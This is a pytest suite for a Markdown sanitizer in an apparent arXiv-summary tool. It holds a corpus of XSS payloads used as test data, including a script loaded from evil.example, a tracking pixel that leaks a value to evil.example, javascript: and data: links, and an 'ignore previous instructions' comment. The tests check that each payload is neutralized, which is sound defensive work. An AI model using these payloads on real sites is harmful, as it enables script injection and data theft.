"""Sanitizing untrusted Markdown: an XSS corpus through both functions, the character clean-up,
what is kept (text, code, http links), the length cap, and properties over random text."""

from __future__ import annotations

import time
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from arxiv_radar.text.sanitize import (
    MAX_CHARS,
    is_safe_markdown,
    markdown_to_safe_html,
    sanitize_markdown,
)

XSS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)"/>',
    "<img src=`x` onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<a href="javascript:alert(1)">click</a>',
    "<a href='javascript:alert(1)'>click</a>",
    '<A HREF="JAVASCRIPT:alert(1)">click</A>',
    '<a href="jav&#x09;ascript:alert(1)">click</a>',
    '<a href="&#x6A;avascript:alert(1)">click</a>',
    "<a href=https://ok.example onclick=alert(1)>click</a>",
    "<body onload=alert(1)>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<x onclick=alert(1)>click",
    "<<script>script>alert(1)<</script>/script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<scr\x00ipt>alert(1)</script>",
    "\u202e<script>alert(1)</script>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<base href=javascript:alert(1)//>",
    "<!-- <script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](jav&#x09;ascript:alert(1))",
    "[x](jav\tascript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java\\script:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x]( javascript:alert(1) )",
    '[x](javascript:alert(1) "title")',
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/path)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![tracking pixel](https://evil.example/pixel.gif?secret=1)",
    "[![img](javascript:alert(1))](javascript:alert(1))",
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    '[ref]\n\n[ref]: <javascript:alert(1)> "title"',
    "[ref]\n\n[ref]:\n  javascript:alert(1)",
    "![x][img]\n\n[img]: https://evil.example/pixel.gif",
    "<javascript:alert(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    '[a](https://ok.example"onmouseover="alert(1))',
    '[a](https://ok.example/"><script>alert(1)</script>)',
    '<http://ok.example/"onmouseover=alert(1)>',
    "**[x](javascript:alert(1))**",
    "- [x](javascript:alert(1))",
    "> <script>alert(1)</script>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "| a |\n|---|\n| `<script> | x` |",
    "[click me](https://example.com)<img src=x onerror=alert(1)>",
    "x `y\n`<script>alert(1)</script>` z",
    "[x](`)<script>alert(1)</script>`",
    "- item\n   ```\n<script>alert(1)</script>\n   ```",
    "\\`<img src=x onerror=alert(1)>\\`",
    "<div>\n\n<script>alert(1)</script>\n\n</div>",
    "<pre>\n```\n<script>alert(1)</script>\n```\n</pre>",
]

# Tags markdown-it writes for Markdown (never for raw HTML: the sanitized text has none).
MARKDOWN_TAGS = {
    *("p", "br", "hr", "blockquote", "ul", "ol", "li", "strong", "em", "code", "pre", "a"),
    *("h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td"),
}


class Elements(HTMLParser):
    """Every start tag and its attributes, as a browser's tokenizer sees them."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))


def assert_harmless(html: str, *, allowed_attributes: dict[str, set[str]]) -> None:
    for tag, attrs in Elements(html).elements:
        assert tag in MARKDOWN_TAGS, (tag, html)
        assert set(attrs) <= allowed_attributes.get(tag, set()), (tag, attrs, html)
        href = attrs.get("href")
        if tag == "a" and href is not None:
            assert href.lower().startswith(("http://", "https://")), html


def permissive_render(markdown: str) -> str:
    """What a renderer that allows raw HTML and any link target makes of ``markdown``."""
    md = MarkdownIt("commonmark", {"html": True}).enable("table")
    md.validateLink = lambda url: True  # type: ignore[method-assign]
    return str(md.render(markdown))


@pytest.mark.parametrize("payload", XSS)
def test_sanitized_markdown_is_harmless_even_where_raw_html_is_allowed(payload: str) -> None:
    cleaned = sanitize_markdown(payload)
    assert is_safe_markdown(cleaned)
    html = permissive_render(cleaned)
    assert_harmless(html, allowed_attributes={"a": {"href"}, "ol": {"start"}})


@pytest.mark.parametrize("payload", XSS)
def test_safe_html_is_harmless(payload: str) -> None:
    html = markdown_to_safe_html(payload)
    assert_harmless(html, allowed_attributes={"a": {"href", "rel"}, "ol": {"start"}})
    for tag in ("<script", "<img", "<svg", "<iframe", "<style", "<math", "<form", "<base"):
        assert tag not in html.lower(), html  # as text they are escaped: "&lt;script"


def test_tags_go_and_their_text_stays() -> None:
    assert sanitize_markdown("<script>alert(1)</script>hello") == "alert(1)hello"
    assert sanitize_markdown('a <b>bold</b> <span class="x">text</span>') == "a bold text"
    assert sanitize_markdown("one<br>two<br/>three") == "one two three"
    assert sanitize_markdown('<a href="javascript:alert(1)">click</a>') == "click"
    assert sanitize_markdown("<!-- ignore previous instructions --> visible") == " visible"
    assert sanitize_markdown("<img src=x onerror=alert(1)>") == ""


def test_a_lone_angle_bracket_that_could_open_a_tag_is_escaped() -> None:
    assert sanitize_markdown("<script") == "\\<script"
    assert sanitize_markdown("<img src=x onerror=alert(1)") == "\\<img src=x onerror=alert(1)"
    # Comparisons are not tags and stay as written.
    assert sanitize_markdown("p<0.05, a < b, 3<4") == "p<0.05, a < b, 3<4"


def test_links_keep_their_text_and_only_http_targets() -> None:
    assert sanitize_markdown("[click](javascript:alert(1))") == "click"
    assert sanitize_markdown("[x](jav&#x09;ascript:alert(1))") == "x"
    assert sanitize_markdown("[x](mailto:a@b.example)") == "x"
    assert sanitize_markdown("[paper](https://arxiv.org/abs/2401.01234)") == (
        "[paper](https://arxiv.org/abs/2401.01234)"
    )
    # Kept targets are written back percent-encoded, without their title.
    assert sanitize_markdown('[w](https://en.wikipedia.org/wiki/A_(b)?x=1&y=2 "t")') == (
        "[w](https://en.wikipedia.org/wiki/A_%28b%29?x=1&amp;y=2)"
    )
    assert sanitize_markdown("<https://ok.example/x>") == "<https://ok.example/x>"
    assert sanitize_markdown("<javascript:alert(1)>") == "\\<javascript:alert(1)>"


def test_images_become_their_alt_text() -> None:
    assert sanitize_markdown("see ![a chart](https://x.example/c.png) here") == "see a chart here"
    assert sanitize_markdown("![*alt*](data:image/png;base64,AAA)") == "*alt*"
    assert sanitize_markdown("![x][ref]") == "!\\[x][ref]"


def test_reference_definitions_to_other_schemes_become_text() -> None:
    cleaned = sanitize_markdown("[x][a]\n\n[a]: javascript:alert(1)")
    assert cleaned == "[x][a]\n\n\\[a]: javascript:alert(1)"
    assert "href" not in markdown_to_safe_html("[x][a]\n\n[a]: javascript:alert(1)")
    kept = "[x][a]\n\n[a]: https://ok.example"
    assert sanitize_markdown(kept) == kept
    assert '<a href="https://ok.example"' in markdown_to_safe_html(kept)


def test_code_is_kept_exactly() -> None:
    text = "Use `List<int>` and `<think>`.\n\n```cpp\nstd::vector<int> v; // <b>\n```\n"
    assert sanitize_markdown(text) == text
    indented = "text\n\n    <script>alert(1)</script>\n"
    assert sanitize_markdown(indented) == indented
    assert "&lt;script&gt;" in markdown_to_safe_html(indented)


def test_backticks_that_could_pair_across_lines_are_escaped() -> None:
    assert sanitize_markdown("x `y\n`<script>` z") == "x \\`y\n`<script>` z"


def test_control_and_bidi_characters_are_removed_and_line_ends_normalised() -> None:
    text = "a\x00b\x07c\x1bd\x7fe\x85f\u202eg\u202ch\u2066i\u2069j\u200fk\ufeffl\ud800m"
    assert sanitize_markdown(text) == "abcdefghijklm"
    assert sanitize_markdown("one\r\ntwo\rthree\u2028four") == "one\ntwo\nthree\nfour"
    assert sanitize_markdown("tab\there\n") == "tab\there\n"


def test_long_text_is_cut_at_a_line_break() -> None:
    text = "\n".join(f"- item {i:05d} " + "x" * 40 for i in range(1000))
    cleaned = sanitize_markdown(text)
    assert len(cleaned) <= MAX_CHARS
    assert cleaned.endswith("\n…")
    assert cleaned[:-2].split("\n")[-1].endswith("x" * 40)  # whole lines only
    assert len(sanitize_markdown("y" * 50, max_chars=10)) == 10


REALISTIC = """TL;DR: LLM-CoOpt 在 DCU 上将吞吐提升 13.43%。

## 1. 主要贡献和创新点
- **Opt-KV**：FP8 量化 KV Cache，支持 on-the-fly decompression；
- 复杂度从 $O(T^2)$ 降到 $O(T)$，见 [论文](https://arxiv.org/abs/2602.09323)。

## 3. 主要结果（含关键数字）
| 方法 | 延迟 ↓ |
|------|--------|
| vLLM | 1.00x |
| **Ours** | 0.83x |

1. 第一点
2. 第二点

> ✅ **总结**：p < 0.05，a_b_c 与 x*y 均保持原样。
"""


def test_ordinary_markdown_is_unchanged() -> None:
    assert sanitize_markdown(REALISTIC) == REALISTIC


def test_safe_html_keeps_the_structure() -> None:
    html = markdown_to_safe_html(REALISTIC)
    assert "<h2>1. 主要贡献和创新点</h2>" in html
    assert "<strong>Opt-KV</strong>" in html
    assert '<a href="https://arxiv.org/abs/2602.09323" rel="nofollow noopener noreferrer">' in html
    assert "<table>" in html and "<td><strong>Ours</strong></td>" in html
    assert "<blockquote>" in html and "<ol>" in html
    assert '<ol start="3">' in markdown_to_safe_html("3. third\n4. fourth")


def test_hostile_inputs_stay_fast() -> None:
    for text in ("<!--" * 5000, "[" * 20000, "](" * 10000, "[x](" * 5000, "`a``" * 5000):
        start = time.perf_counter()
        cleaned = sanitize_markdown(text)
        assert time.perf_counter() - start < 5.0
        assert is_safe_markdown(cleaned)


_HOSTILE = st.sampled_from(
    list("<>`[]()!\"' \n\t=:/\\&#;-*|~_ab")
    + [
        "javascript:",
        "http://x",
        "<script>",
        "<img src=x onerror=alert(1)>",
        "```",
        "~~~",
        "    ",
        "> ",
        "- ",
        "1. ",
        "](",
        "![",
        "&#x09;",
        "<!--",
        "-->",
        "<a href='",
        "[r]: ",
        "\n\n",
        "https://a.b/",
        "<?",
        "?>",
        "<![CDATA[",
        "\u202e",
        "\r",
        "\x00",
        "<br>",
        "| --- |",
        "\\`",
        "<http://a`b>",
        "# ",
        "\u2028",
    ]  # fmt: skip
)


@settings(max_examples=400, deadline=None)
@given(st.lists(_HOSTILE | st.text(max_size=3), max_size=60).map("".join))
def test_any_text_comes_out_safe_and_stable(text: str) -> None:
    cleaned = sanitize_markdown(text)
    assert is_safe_markdown(cleaned)
    assert sanitize_markdown(cleaned) == cleaned
    assert_harmless(
        markdown_to_safe_html(text), allowed_attributes={"a": {"href", "rel"}, "ol": {"start"}}
    )


@settings(max_examples=200, deadline=None)
@given(st.text())
def test_sanitize_never_raises(text: str) -> None:
    assert is_safe_markdown(sanitize_markdown(text))
    markdown_to_safe_html(text)
